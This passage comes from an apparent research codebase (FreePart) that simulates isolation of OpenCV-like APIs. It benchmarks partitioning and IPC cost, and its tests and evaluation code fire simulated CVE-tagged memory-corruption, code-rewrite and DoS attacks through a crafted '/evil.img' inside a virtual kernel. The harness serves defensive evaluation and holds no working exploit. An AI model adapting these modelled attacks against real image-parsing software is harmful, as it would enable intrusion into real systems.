// PlaceCritical allocates a named critical variable in the process chosen
// by the technique's data policy and fills it with data.
func (s *System) PlaceCritical(name string, data []byte, proc *kernel.Process) (mem.Region, error) {
	r, err := proc.Space().Alloc(len(data))
	if err != nil {
		return mem.Region{}, err
	}
	if err := proc.Space().Store(r.Base, data); err != nil {
		return mem.Region{}, err
	}
	s.criticals[name] = critical{proc: proc, region: r}
	if s.Kind == MemoryBased {
		// Memory-based isolation: seal critical data after initialization.
		if _, err := proc.Space().ProtectRegion(r, mem.PermRead); err != nil {
			return mem.Region{}, err
		}
	}
	return r, nil
}

// Critical returns a critical variable's placement.
func (s *System) Critical(name string) (*kernel.Process, mem.Region, bool) {
	c, ok := s.criticals[name]
	if !ok {
		return nil, mem.Region{}, false
	}
	return c.proc, c.region, true
}

// ReadCritical reads a critical variable from the perspective of the code
// that consumes it. Only dedicated data-isolation (Fig. 2-(b)) pays an IPC
// per access: the code-based API technique co-locates the variable with
// the code partition that reads it (which is exactly why its co-residency
// with imread is exploitable), and the other techniques keep data in the
// host.
func (s *System) ReadCritical(name string, off, n int) ([]byte, error) {
	c, ok := s.criticals[name]
	if !ok {
		return nil, fmt.Errorf("baseline: unknown critical %q", name)
	}
	if s.Kind == CodeAPIData && c.proc != s.host {
		s.Metrics.AddIPC(n)
		s.K.Clock.Advance(s.K.Cost.IPCRoundTrip + s.K.Cost.CopyCost(n))
	}
	return c.proc.Space().Load(c.region.Base+mem.Addr(off), n)
}

// CodeRegion returns the API's code placement (attack target).
func (s *System) CodeRegion(api string) (*kernel.Process, mem.Region, bool) {
	c, ok := s.codeOf[api]
	if !ok {
		return nil, mem.Region{}, false
	}
	return c.proc, c.region, true
}

// APIsPerProcess returns the number of APIs homed in each process, host
// first (Table 10's granularity row).
func (s *System) APIsPerProcess() []int {
	counts := make([]int, len(s.procs)+1)
	for _, idx := range s.homeOf {
		counts[idx+1]++
	}
	return counts
}

// allocCode installs a one-page r-x code region for an API in its home
// process.
func (s *System) allocCode(api string) error {
	proc := s.HomeOf(api)
	r, err := proc.Space().Alloc(mem.PageSize)
	if err != nil {
		return err
	}
	if _, err := proc.Space().ProtectRegion(r, mem.PermRead|mem.PermExec); err != nil {
		return err
	}
	s.codeOf[api] = codeLoc{proc: proc, region: r}
	return nil
}

// Call implements core.Caller: run the API in its home process,
// accounting IPC and data movement per the technique's policy.
func (s *System) Call(apiName string, args ...framework.Value) ([]core.Handle, []framework.Value, error) {
	api, ok := s.Reg.Get(apiName)
	if !ok {
		return nil, nil, fmt.Errorf("baseline: unknown API %s", apiName)
	}
	s.Metrics.AddAPICall()
	ctx := s.ctxOf(apiName)
	crossing := ctx != s.hostCtx

	// Translate argument handles: objects living elsewhere are copied in
	// (full payload) unless the technique shares memory.
	resolved := make([]framework.Value, len(args))
	inBytes := 0
	for i, v := range args {
		if v.Kind != framework.ValObj {
			resolved[i] = v
			continue
		}
		ref, o, err := s.findRef(v.Obj)
		if err != nil {
			return nil, nil, err
		}
		if ref.ctx == ctx {
			resolved[i] = framework.Obj(ref.id)
			continue
		}
		payload, err := object.PayloadBytes(o)
		if err != nil {
			return nil, nil, err
		}
		if !s.sharedData {
			inBytes += len(payload)
		}
		no, err := object.Rebuild(ctx.P.Space(), object.Ref{Kind: o.Kind(), Header: o.Header()}, payload)
		if err != nil {
			return nil, nil, err
		}
		resolved[i] = framework.Obj(s.putShadow(ctx, no))
	}
	if crossing {
		s.Metrics.AddIPC(inBytes)
		s.K.Clock.Advance(s.K.Cost.IPCRoundTrip + s.K.Cost.CopyCost(inBytes))
	}

	results, err := api.Exec(ctx, resolved)
	if err != nil {
		return nil, nil, err
	}

	// Returned objects: under data sharing they stay put; otherwise the
	// payload is accounted as copied back to the caller.
	var handles []core.Handle
	var plain []framework.Value
	outBytes := 0
	for _, v := range results {
		if v.Kind != framework.ValObj {
			plain = append(plain, v)
			continue
		}
		o, _ := ctx.Table.Get(v.Obj)
		size := 0
		if o != nil {
			size = o.Region().Size
		}
		if crossing && !s.sharedData {
			outBytes += size
			s.Metrics.AddEagerCopy(size)
		}
		handles = append(handles, s.handleFor(ctx, v.Obj, size))
	}
	if crossing && outBytes > 0 {
		s.K.Clock.Advance(s.K.Cost.CopyCost(outBytes))
	}
	return handles, plain, nil
}

// Object ids are globally disambiguated by context: each context's table
// already yields unique ids per process, so a handle needs (ctx, id). The
// executor interface only carries an id, so the system keeps a side map.
type handleKey struct{ id uint64 }

// handleFor wraps an object id with its owning context via the side map.
func (s *System) handleFor(ctx *framework.Ctx, id uint64, size int) core.Handle {
	gid := s.nextGlobal()
	s.owners[gid] = ownerRef{ctx: ctx, id: id}
	return core.BaselineHandle(gid, size)
}

// findRef resolves a global handle id to its owner and object.
func (s *System) findRef(gid uint64) (ownerRef, object.Object, error) {
	ref, ok := s.owners[gid]
	if !ok {
		return ownerRef{}, nil, fmt.Errorf("baseline: dangling handle %d", gid)
	}
	o, ok := ref.ctx.Table.Get(ref.id)
	if !ok {
		return ownerRef{}, nil, fmt.Errorf("baseline: dangling object %d", ref.id)
	}
	return ref, o, nil
}

// putShadow registers a rebuilt object and returns its local id.
func (s *System) putShadow(ctx *framework.Ctx, o object.Object) uint64 {
	return ctx.Table.Put(o)
}

type ownerRef struct {
	ctx *framework.Ctx
	id  uint64
}

// Fetch implements core.Caller.
func (s *System) Fetch(h core.Handle) ([]byte, error) {
	gid := core.BaselineHandleID(h)
	ref, o, err := s.findRef(gid)
	if err != nil {
		return nil, err
	}
	if ref.ctx != s.hostCtx && !s.sharedData {
		s.Metrics.AddIPC(o.Region().Size)
		s.K.Clock.Advance(s.K.Cost.IPCRoundTrip + s.K.Cost.CopyCost(o.Region().Size))
	}
	return object.PayloadBytes(o)
}
