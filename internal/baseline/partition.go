package baseline

import (
	"fmt"
	"math/rand"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/workload"
)

// RandomPartitionOf builds a PartitionOf function for the Fig. 4 / §A.1.4
// sweeps: APIs in apiNames are split across n partitions at random
// (seeded); unlisted APIs follow their type's base partition modulo n.
func RandomPartitionOf(apiNames []string, n int, seed int64) func(*framework.API) int {
	rng := rand.New(rand.NewSource(seed))
	assign := make(map[string]int, len(apiNames))
	// Guarantee every partition is populated before randomizing the rest.
	for i, name := range apiNames {
		if i < n {
			assign[name] = i
			continue
		}
		assign[name] = rng.Intn(n)
	}
	return func(api *framework.API) int {
		if p, ok := assign[api.Name]; ok {
			return p
		}
		return int(api.TrueType) % n
	}
}

// TypePartitionOf reproduces FreePart's default four type partitions as an
// explicit partition function (the K=4 point of the Fig. 4 sweep).
func TypePartitionOf(cat *analysis.Categorization) func(*framework.API) int {
	return func(api *framework.API) int {
		switch cat.TypeOf(api.Name) {
		case framework.TypeLoading:
			return 0
		case framework.TypeProcessing:
			return 1
		case framework.TypeVisualizing:
			return 2
		case framework.TypeStoring:
			return 3
		default:
			return 1
		}
	}
}

// SplitHotPairPartitionOf is the adversarial 5-partition split of §3
// (Fig. 4's explanation): the hot-loop pair cv.rectangle / cv.putText is
// torn apart into separate partitions.
func SplitHotPairPartitionOf(cat *analysis.Categorization) func(*framework.API) int {
	base := TypePartitionOf(cat)
	return func(api *framework.API) int {
		if api.Name == "cv.putText" {
			return 4
		}
		return base(api)
	}
}

// annotateWorkload is the Fig. 4 sweep workload: the annotation-dominated
// phase of the motivating example where cv.rectangle and cv.putText run in
// a hot loop over the full sheet ("used to annotate different answers in
// an input image", §3). Splitting that pair across partitions forces the
// canvas to ping-pong, which is exactly the overhead cliff the paper
// reports.
func annotateWorkload(k *kernel.Kernel, ex core.Caller, sheets, questions, options, cell int) error {
	gen := workload.New(99)
	for i := 0; i < sheets; i++ {
		path := fmt.Sprintf("/omr/%03d.img", i)
		enc, _ := gen.EncodedOMRSheet(questions, options, cell)
		k.FS.WriteFile(path, enc)
		imgs, _, err := ex.Call("cv.imread", framework.Str(path))
		if err != nil {
			return err
		}
		blur, _, err := ex.Call("cv.GaussianBlur", imgs[0].Value())
		if err != nil {
			return err
		}
		canvas := blur[0]
		for q := 0; q < questions; q++ {
			for o := 0; o < options; o++ {
				out, _, err := ex.Call("cv.rectangle", canvas.Value(),
					framework.Int64(int64(o*cell)), framework.Int64(int64(q*cell)),
					framework.Int64(int64(cell)), framework.Int64(int64(cell)))
				if err != nil {
					return err
				}
				canvas = out[0]
				out, _, err = ex.Call("cv.putText", canvas.Value(), framework.Str("A"),
					framework.Int64(int64(o*cell+1)), framework.Int64(int64(q*cell+1)))
				if err != nil {
					return err
				}
				canvas = out[0]
			}
		}
		if _, _, err := ex.Call("cv.imshow", framework.Str("omr"), canvas.Value()); err != nil {
			return err
		}
		if _, _, err := ex.Call("cv.imwrite", framework.Str("/omr/out.img"), canvas.Value()); err != nil {
			return err
		}
	}
	return nil
}

// MeasurePartitioned runs the annotation workload under a custom K-way
// partitioning and returns its virtual time.
func MeasurePartitioned(partitions int, partitionOf func(*framework.API) int, sheets, questions, options int) (Perf, error) {
	k := kernel.New()
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	cfg := core.Default()
	cfg.AppAPIs = OMRAPIs()
	cfg.Partitions = partitions
	cfg.PartitionOf = partitionOf
	rt, err := core.New(k, reg, cat, cfg)
	if err != nil {
		return Perf{}, err
	}
	defer rt.Close()
	start := k.Clock.Now()
	if err := annotateWorkload(k, rt, sheets, questions, options, Cell); err != nil {
		return Perf{}, err
	}
	snap := rt.Metrics.Snapshot()
	return Perf{
		Technique: "partitions",
		IPCs:      snap.IPCCalls, Bytes: snap.BytesMoved,
		Time: k.Clock.Now() - start,
	}, nil
}

// SweepPartitions measures average runtime for each partition count in
// [from, to], sampling `samples` random assignments per count (the Fig. 4
// experiment, subsampled like the paper's 7,750-per-K runs).
func SweepPartitions(from, to, samples, sheets int) (map[int]float64, error) {
	// Larger bubbles make the hot-pair data sharing substantial, as in the
	// paper's workload; restore the ambient cell afterwards.
	old := Cell
	Cell = 24
	defer func() { Cell = old }()
	out := make(map[int]float64, to-from+1)
	apiNames := OMRAPIs()
	cat := analysis.New(all.Registry(), nil).Categorize()
	for n := from; n <= to; n++ {
		if n == 4 {
			// K=4 is FreePart's type-based partitioning — the fixed point
			// the random finer-grained splits are compared against.
			p, err := MeasurePartitioned(4, TypePartitionOf(cat), sheets, 8, 4)
			if err != nil {
				return nil, err
			}
			out[4] = float64(p.Time)
			continue
		}
		var total float64
		runs := 0
		for s := 0; s < samples; s++ {
			p, err := MeasurePartitioned(n, RandomPartitionOf(apiNames, n, int64(n*1000+s)), sheets, 8, 4)
			if err != nil {
				return nil, err
			}
			total += float64(p.Time)
			runs++
		}
		out[n] = total / float64(runs)
	}
	return out, nil
}
