package baseline_test

import (
	"testing"

	"freepart.dev/freepart/internal/analysis"

	"freepart.dev/freepart/internal/baseline"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/framework/simcv"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/workload"
)

// build creates a system of the given kind over the OMR API set.
func build(t *testing.T, kind baseline.Kind) (*kernel.Kernel, *baseline.System) {
	t.Helper()
	k := kernel.New()
	s, err := baseline.New(kind, k, all.Registry(), baseline.OMRAPIs())
	if err != nil {
		t.Fatal(err)
	}
	return k, s
}

func TestProcessCounts(t *testing.T) {
	// Table 1's "# of Processes" column shape: per-API has the most,
	// memory-based the fewest.
	counts := map[baseline.Kind]int{}
	for _, kind := range []baseline.Kind{
		baseline.CodeAPI, baseline.CodeAPIData, baseline.LibraryEntire,
		baseline.LibraryPerAPI, baseline.MemoryBased,
	} {
		_, s := build(t, kind)
		counts[kind] = len(s.Processes())
	}
	if counts[baseline.CodeAPI] != 3 {
		t.Errorf("CodeAPI processes = %d, want 3", counts[baseline.CodeAPI])
	}
	if counts[baseline.CodeAPIData] != 5 {
		t.Errorf("CodeAPIData processes = %d, want 5", counts[baseline.CodeAPIData])
	}
	if counts[baseline.LibraryEntire] != 2 {
		t.Errorf("LibraryEntire processes = %d, want 2", counts[baseline.LibraryEntire])
	}
	if counts[baseline.LibraryPerAPI] != 1+len(baseline.OMRAPIs()) {
		t.Errorf("LibraryPerAPI processes = %d", counts[baseline.LibraryPerAPI])
	}
	if counts[baseline.MemoryBased] != 1 {
		t.Errorf("MemoryBased processes = %d, want 1", counts[baseline.MemoryBased])
	}
}

func TestPipelineRunsOnEveryTechnique(t *testing.T) {
	for _, kind := range []baseline.Kind{
		baseline.CodeAPI, baseline.CodeAPIData, baseline.LibraryEntire,
		baseline.LibraryPerAPI, baseline.MemoryBased,
	} {
		kind := kind
		t.Run(kind.String(), func(t *testing.T) {
			k, s := build(t, kind)
			gen := workload.New(7)
			k.FS.WriteFile("/in.img", gen.EncodedImage(8, 8, 1))
			imgs, _, err := s.Call("cv.imread", framework.Str("/in.img"))
			if err != nil {
				t.Fatal(err)
			}
			blur, _, err := s.Call("cv.GaussianBlur", imgs[0].Value())
			if err != nil {
				t.Fatal(err)
			}
			if _, _, err := s.Call("cv.imwrite", framework.Str("/out.img"), blur[0].Value()); err != nil {
				t.Fatal(err)
			}
			if !k.FS.Exists("/out.img") {
				t.Fatal("pipeline produced no output")
			}
			out, err := s.Fetch(blur[0])
			if err != nil || len(out) != 64 {
				t.Fatalf("fetch = %d bytes, %v", len(out), err)
			}
		})
	}
}

func TestBaselineResultsMatchAcrossTechniques(t *testing.T) {
	// The same input produces identical blurred bytes on every technique
	// (isolation must not change semantics).
	var want []byte
	for _, kind := range []baseline.Kind{
		baseline.MemoryBased, baseline.CodeAPI, baseline.LibraryEntire, baseline.LibraryPerAPI,
	} {
		k, s := build(t, kind)
		gen := workload.New(7)
		k.FS.WriteFile("/in.img", gen.EncodedImage(8, 8, 1))
		imgs, _, _ := s.Call("cv.imread", framework.Str("/in.img"))
		blur, _, err := s.Call("cv.GaussianBlur", imgs[0].Value())
		if err != nil {
			t.Fatal(err)
		}
		got, _ := s.Fetch(blur[0])
		if want == nil {
			want = got
			continue
		}
		if string(got) != string(want) {
			t.Fatalf("%s produced different output", kind)
		}
	}
}

func TestSharedMemoryMovesNoObjectBytes(t *testing.T) {
	// Library-entire (Fig. 2-(c)): IPC per call, zero object bytes.
	k, s := build(t, baseline.LibraryEntire)
	gen := workload.New(7)
	k.FS.WriteFile("/in.img", gen.EncodedImage(16, 16, 1))
	imgs, _, _ := s.Call("cv.imread", framework.Str("/in.img"))
	for i := 0; i < 4; i++ {
		if _, _, err := s.Call("cv.GaussianBlur", imgs[0].Value()); err != nil {
			t.Fatal(err)
		}
	}
	snap := s.Metrics.Snapshot()
	if snap.IPCCalls < 5 {
		t.Fatalf("IPC calls = %d, want one per API call", snap.IPCCalls)
	}
	if snap.BytesMoved != 0 {
		t.Fatalf("shared memory should move 0 object bytes, got %d", snap.BytesMoved)
	}
}

func TestPerAPIMovesAllBytes(t *testing.T) {
	k, s := build(t, baseline.LibraryPerAPI)
	gen := workload.New(7)
	k.FS.WriteFile("/in.img", gen.EncodedImage(16, 16, 1))
	imgs, _, _ := s.Call("cv.imread", framework.Str("/in.img"))
	if _, _, err := s.Call("cv.GaussianBlur", imgs[0].Value()); err != nil {
		t.Fatal(err)
	}
	snap := s.Metrics.Snapshot()
	if snap.BytesMoved < 2*256 {
		t.Fatalf("per-API isolation should ship payloads, moved %d bytes", snap.BytesMoved)
	}
}

func TestSecurityVerdictsMatchTable1(t *testing.T) {
	// The M/C/D outcomes per technique, derived by running the attacks.
	type want struct{ m, c, d bool }
	wants := map[baseline.Kind]want{
		// Template co-resident with imread: M fails; API isolation keeps
		// other code and the host safe: C, D prevented.
		baseline.CodeAPI: {m: false, c: true, d: true},
		// Data isolated too: all three prevented (at high cost).
		baseline.CodeAPIData: {m: true, c: true, d: true},
		// All APIs share one process: code rewrite of another API works;
		// M and D prevented (data in host, crash confined to library).
		baseline.LibraryEntire: {m: true, c: false, d: true},
		// Everything isolated: all prevented.
		baseline.LibraryPerAPI: {m: true, c: true, d: true},
		// Single process: read-only template resists corruption, but the
		// crash takes the app down and code rewrite works.
		baseline.MemoryBased: {m: true, c: false, d: false},
	}
	for kind, w := range wants {
		v, err := baseline.EvaluateSecurity(kind)
		if err != nil {
			t.Fatalf("%s: %v", kind, err)
		}
		if v.MPrevented != w.m || v.CPrevented != w.c || v.DPrevented != w.d {
			t.Errorf("%s: M=%v C=%v D=%v, want M=%v C=%v D=%v",
				kind, v.MPrevented, v.CPrevented, v.DPrevented, w.m, w.c, w.d)
		}
	}
}

func TestFreePartSecurityVerdict(t *testing.T) {
	v, err := baseline.EvaluateFreePartSecurity()
	if err != nil {
		t.Fatal(err)
	}
	if !v.MPrevented || !v.CPrevented || !v.DPrevented {
		t.Fatalf("FreePart must prevent all three: %+v", v)
	}
	if v.Processes != 5 {
		t.Fatalf("FreePart processes = %d, want 5", v.Processes)
	}
	if v.IsolatedCVEAPIs < 2 {
		t.Fatalf("isolated CVE APIs = %d, want >= 2 (imread, imshow)", v.IsolatedCVEAPIs)
	}
}

func TestTable9Shape(t *testing.T) {
	// The relative ordering of Table 9: per-API isolation moves the most
	// bytes and takes the longest; entire-library does many IPCs but moves
	// nothing; code-based API&data does many more IPCs than code-based API;
	// FreePart sits near the unprotected time.
	sheets, q, o := 2, 8, 4
	perf := map[string]baseline.Perf{}
	for _, kind := range []baseline.Kind{
		baseline.CodeAPI, baseline.CodeAPIData, baseline.LibraryEntire,
		baseline.LibraryPerAPI, baseline.MemoryBased,
	} {
		p, err := baseline.MeasureBaseline(kind, sheets, q, o)
		if err != nil {
			t.Fatalf("%s: %v", kind, err)
		}
		perf[kind.String()] = p
	}
	fp, err := baseline.MeasureFreePart(true, sheets, q, o)
	if err != nil {
		t.Fatal(err)
	}
	base, err := baseline.MeasureUnprotected(sheets, q, o)
	if err != nil {
		t.Fatal(err)
	}

	if perf[baseline.CodeAPIData.String()].IPCs <= perf[baseline.CodeAPI.String()].IPCs {
		t.Error("API&Data should do more IPCs than API-only (hot-loop data reads)")
	}
	if perf[baseline.LibraryEntire.String()].Bytes != 0 {
		t.Error("entire-library should move no object bytes")
	}
	if perf[baseline.LibraryPerAPI.String()].Bytes <= perf[baseline.CodeAPI.String()].Bytes {
		t.Error("per-API should move the most bytes")
	}
	if perf[baseline.LibraryPerAPI.String()].Time <= perf[baseline.LibraryEntire.String()].Time {
		t.Error("per-API should be slower than entire-library")
	}
	if perf[baseline.MemoryBased.String()].IPCs != 0 {
		t.Error("memory-based does no IPC")
	}
	// FreePart within a modest factor of unprotected, far below per-API.
	if fp.Time >= perf[baseline.LibraryPerAPI.String()].Time {
		t.Errorf("FreePart (%v) should beat per-API isolation (%v)", fp.Time, perf[baseline.LibraryPerAPI.String()].Time)
	}
	overhead := float64(fp.Time)/float64(base.Time) - 1
	if overhead > 2.5 {
		t.Errorf("FreePart overhead = %.1f%% on tiny inputs, implausibly high", overhead*100)
	}
}

func TestOverheadShrinksWithInputSize(t *testing.T) {
	// The paper's 3.68% holds because real workloads are compute-dominated
	// (1.7 MB images). FreePart's fixed per-call IPC cost amortizes as
	// inputs grow: overhead at large cells must be well below tiny cells
	// and land in the single digits.
	measure := func(cell int) float64 {
		old := baseline.Cell
		baseline.Cell = cell
		defer func() { baseline.Cell = old }()
		fp, err := baseline.MeasureFreePart(true, 1, 8, 4)
		if err != nil {
			t.Fatal(err)
		}
		base, err := baseline.MeasureUnprotected(1, 8, 4)
		if err != nil {
			t.Fatal(err)
		}
		return 100 * (float64(fp.Time)/float64(base.Time) - 1)
	}
	tiny := measure(6)
	big := measure(48) // 384x192 = 72 KiB per sheet
	if big >= tiny {
		t.Fatalf("overhead should shrink with input size: tiny=%.1f%% big=%.1f%%", tiny, big)
	}
	if big > 12 {
		t.Fatalf("overhead at realistic sizes = %.1f%%, want single digits", big)
	}
}

func TestLDCAblationShape(t *testing.T) {
	with, err := baseline.MeasureFreePart(true, 2, 8, 4)
	if err != nil {
		t.Fatal(err)
	}
	without, err := baseline.MeasureFreePart(false, 2, 8, 4)
	if err != nil {
		t.Fatal(err)
	}
	if with.Bytes >= without.Bytes {
		t.Errorf("LDC bytes (%d) should be < no-LDC bytes (%d)", with.Bytes, without.Bytes)
	}
	if with.Time >= without.Time {
		t.Errorf("LDC time (%v) should be < no-LDC time (%v)", with.Time, without.Time)
	}
}

func TestPartitionSweepShape(t *testing.T) {
	// Fig. 4: 4 type-based partitions beat random 5-partition splits that
	// tear the hot pair apart.
	cat := analysis.New(all.Registry(), nil).Categorize()
	p4, err := baseline.MeasurePartitioned(4, baseline.TypePartitionOf(cat), 2, 8, 4)
	if err != nil {
		t.Fatal(err)
	}
	p5, err := baseline.MeasurePartitioned(5, baseline.SplitHotPairPartitionOf(cat), 2, 8, 4)
	if err != nil {
		t.Fatal(err)
	}
	if p5.Time <= p4.Time {
		t.Errorf("splitting the hot pair (%v) should cost more than 4 partitions (%v)", p5.Time, p4.Time)
	}
	ratio := float64(p5.Time) / float64(p4.Time)
	if ratio < 1.05 {
		t.Errorf("hot-pair split ratio = %.2f, want a visible jump", ratio)
	}
}

func TestRandomPartitionCoversAll(t *testing.T) {
	f := baseline.RandomPartitionOf(baseline.OMRAPIs(), 6, 42)
	reg := simcv.Registry()
	seen := map[int]bool{}
	for _, name := range baseline.OMRAPIs() {
		api := reg.MustGet(name)
		p := f(api)
		if p < 0 || p >= 6 {
			t.Fatalf("partition %d out of range", p)
		}
		seen[p] = true
	}
	if len(seen) != 6 {
		t.Fatalf("only %d partitions used", len(seen))
	}
}
