package baseline

import (
	"fmt"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/attack"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/mem"
	"freepart.dev/freepart/internal/metrics"
	"freepart.dev/freepart/internal/vclock"
	"freepart.dev/freepart/internal/workload"
)

// OMRAPIs is the motivating example's API set: the calls the OMRChecker
// workload issues (Table 2's categorized APIs, abbreviated to the ones the
// pipeline exercises).
func OMRAPIs() []string {
	return []string{
		"cv.imread", "cv.morphologyEx", "cv.threshold", "cv.erode",
		"cv.GaussianBlur", "cv.findContours", "cv.warpPerspective",
		"cv.rectangle", "cv.putText", "cv.resize", "cv.cvtColor",
		"cv.equalizeHist", "cv.normalize", "cv.countNonZero", "cv.mean",
		"cv.imshow", "cv.namedWindow", "cv.destroyAllWindows",
		"cv.imwrite",
	}
}

// SecurityVerdict is one Table 1 row's attack outcomes, derived by
// executing the attacks rather than asserting them.
type SecurityVerdict struct {
	Technique string
	Processes int
	// MPrevented: the memory-corruption attack on the critical template
	// failed to change it.
	MPrevented bool
	// CPrevented: the code-rewrite attack on another API's code failed.
	CPrevented bool
	// DPrevented: the DoS attack left the host program alive.
	DPrevented bool
	// IsolatedCVEAPIs counts vulnerable APIs running outside the host
	// process.
	IsolatedCVEAPIs int
	// APIsPerProcess is Table 10's granularity row (host first).
	APIsPerProcess []int
}

// templateBytes is the critical-data fixture.
func templateBytes() []byte {
	b := make([]byte, 32)
	for i := range b {
		b[i] = byte(0x40 + i)
	}
	return b
}

// evalAttack builds a fresh system of the kind and fires one exploit
// through cv.imread, returning the system for post-conditions.
func evalAttack(kind Kind, crafted func(s *System) []byte) (*System, *attack.Log, error) {
	k := kernel.New()
	reg := all.Registry()
	s, err := New(kind, k, reg, OMRAPIs())
	if err != nil {
		return nil, nil, err
	}
	if _, err := s.PlaceCriticalAuto("template", templateBytes()); err != nil {
		return nil, nil, err
	}
	log := &attack.Log{}
	s.InstallExploitHandler(log.Handler())
	k.FS.WriteFile("/evil.img", crafted(s))
	_, _, _ = s.Call("cv.imread", framework.Str("/evil.img"))
	return s, log, nil
}

// EvaluateSecurity runs the three Table 1 attacks against one baseline
// technique.
func EvaluateSecurity(kind Kind) (SecurityVerdict, error) {
	v := SecurityVerdict{Technique: kind.String()}

	// Attack M: corrupt the template through the imread exploit. The
	// §5.3 attacker knows the template's exact address.
	s, _, err := evalAttack(kind, func(s *System) []byte {
		_, r, _ := s.Critical("template")
		return attack.Corrupt("CVE-2017-12597", r.Base, []byte("OWNED!!!"))
	})
	if err != nil {
		return v, err
	}
	proc, r, _ := s.Critical("template")
	after, _ := proc.Space().Load(r.Base, 8)
	v.MPrevented = string(after) != "OWNED!!!"
	v.Processes = len(s.Processes())
	v.APIsPerProcess = s.APIsPerProcess()
	v.IsolatedCVEAPIs = s.isolatedCVEAPIs()

	// Attack C: rewrite another API's code (morphologyEx) from the
	// exploited imread.
	s, _, err = evalAttack(kind, func(s *System) []byte {
		_, code, _ := s.CodeRegion("cv.morphologyEx")
		return attack.CodeRewrite("CVE-2017-17760", code.Base, 16)
	})
	if err != nil {
		return v, err
	}
	cproc, code, _ := s.CodeRegion("cv.morphologyEx")
	got, gerr := cproc.Space().Load(code.Base, 1)
	v.CPrevented = gerr != nil || got[0] != 0xCC

	// Attack D: crash via DoS; the application survives iff its host
	// process does.
	s, _, err = evalAttack(kind, func(s *System) []byte {
		return attack.DoS("CVE-2017-14136")
	})
	if err != nil {
		return v, err
	}
	v.DPrevented = s.Host().Alive()
	return v, nil
}

// isolatedCVEAPIs counts vulnerable APIs homed outside the host.
func (s *System) isolatedCVEAPIs() int {
	n := 0
	for name := range s.homeOf {
		api, ok := s.Reg.Get(name)
		if ok && api.Vulnerable() && s.HomeOf(name) != s.host {
			n++
		}
	}
	return n
}

// EvaluateFreePartSecurity runs the same three attacks against a FreePart
// deployment, producing a comparable verdict.
func EvaluateFreePartSecurity() (SecurityVerdict, error) {
	v := SecurityVerdict{Technique: "FreePart"}

	build := func() (*kernel.Kernel, *core.Runtime, *attack.Log, mem.Region, error) {
		k := kernel.New()
		reg := all.Registry()
		cat := analysis.New(reg, nil).Categorize()
		cfg := core.Default()
		cfg.AppAPIs = OMRAPIs()
		rt, err := core.New(k, reg, cat, cfg)
		if err != nil {
			return nil, nil, nil, mem.Region{}, err
		}
		log := &attack.Log{}
		rt.OnExploit = log.Handler()
		tmpl, err := rt.Host.Space().Alloc(32)
		if err != nil {
			return nil, nil, nil, mem.Region{}, err
		}
		if err := rt.Host.Space().Store(tmpl.Base, templateBytes()); err != nil {
			return nil, nil, nil, mem.Region{}, err
		}
		rt.RegisterCritical(tmpl)
		return k, rt, log, tmpl, nil
	}

	// Attack M.
	k, rt, _, tmpl, err := build()
	if err != nil {
		return v, err
	}
	k.FS.WriteFile("/evil.img", attack.Corrupt("CVE-2017-12597", tmpl.Base, []byte("OWNED!!!")))
	_, _, _ = rt.Call("cv.imread", framework.Str("/evil.img"))
	after, _ := rt.Host.Space().Load(tmpl.Base, 8)
	v.MPrevented = string(after) != "OWNED!!!"
	v.Processes = len(k.Processes())
	v.APIsPerProcess = freePartAPIsPerProcess(rt)
	v.IsolatedCVEAPIs = freePartIsolatedCVEs(rt)
	rt.Close()

	// Attack C: the rewrite payload needs mprotect, which no agent filter
	// allows. Give the attacker a code page in the loading agent to aim at.
	k, rt, clog, _, err := build()
	if err != nil {
		return v, err
	}
	loading, _ := rt.AgentForType(framework.TypeLoading)
	code, _ := loading.Space().Alloc(mem.PageSize)
	_, _ = loading.Space().ProtectRegion(code, mem.PermRead|mem.PermExec)
	k.FS.WriteFile("/evil.img", attack.CodeRewrite("CVE-2017-17760", code.Base, 16))
	_, _, _ = rt.Call("cv.imread", framework.Str("/evil.img"))
	rewrote := clog.Last() != nil && clog.Last().Rewrote
	v.CPrevented = !rewrote
	rt.Close()

	// Attack D.
	k, rt, _, _, err = build()
	if err != nil {
		return v, err
	}
	k.FS.WriteFile("/evil.img", attack.DoS("CVE-2017-14136"))
	_, _, _ = rt.Call("cv.imread", framework.Str("/evil.img"))
	v.DPrevented = rt.Host.Alive()
	rt.Close()
	return v, nil
}

// freePartAPIsPerProcess computes Table 10's FreePart row for the OMR set.
func freePartAPIsPerProcess(rt *core.Runtime) []int {
	counts := []int{0, 0, 0, 0, 0} // host, DL, DP, V, ST
	for _, name := range OMRAPIs() {
		switch rt.Cat.TypeOf(name) {
		case framework.TypeLoading:
			counts[1]++
		case framework.TypeProcessing:
			counts[2]++
		case framework.TypeVisualizing:
			counts[3]++
		case framework.TypeStoring:
			counts[4]++
		}
	}
	return counts
}

// freePartIsolatedCVEs counts vulnerable OMR APIs (all isolated from the
// host under FreePart).
func freePartIsolatedCVEs(rt *core.Runtime) int {
	n := 0
	for _, name := range OMRAPIs() {
		if api, ok := rt.Reg.Get(name); ok && api.Vulnerable() {
			n++
		}
	}
	return n
}

// Perf is one Table 9 row: IPC count, bytes moved, virtual time.
type Perf struct {
	Technique string
	IPCs      uint64
	Bytes     uint64
	Time      vclock.Duration
}

// omrWorkload drives the motivating-example pipeline: per sheet, load →
// preprocess → per-bubble template reads (the hot loop) → annotate → show
// → store.
func omrWorkload(k *kernel.Kernel, ex core.Caller, readTemplate func(off, n int) ([]byte, error), sheets, questions, options, cell int) error {
	if cell <= 0 {
		cell = DefaultCell
	}
	gen := workload.New(99)
	for i := 0; i < sheets; i++ {
		path := fmt.Sprintf("/omr/%03d.img", i)
		enc, _ := gen.EncodedOMRSheet(questions, options, cell)
		k.FS.WriteFile(path, enc)

		imgs, _, err := ex.Call("cv.imread", framework.Str(path))
		if err != nil {
			return err
		}
		morph, _, err := ex.Call("cv.morphologyEx", imgs[0].Value(), framework.Str("close"))
		if err != nil {
			return err
		}
		// The real OMRChecker runs a long pre-processing chain (88 DP call
		// instances per sheet, Table 6); these stages amortize the
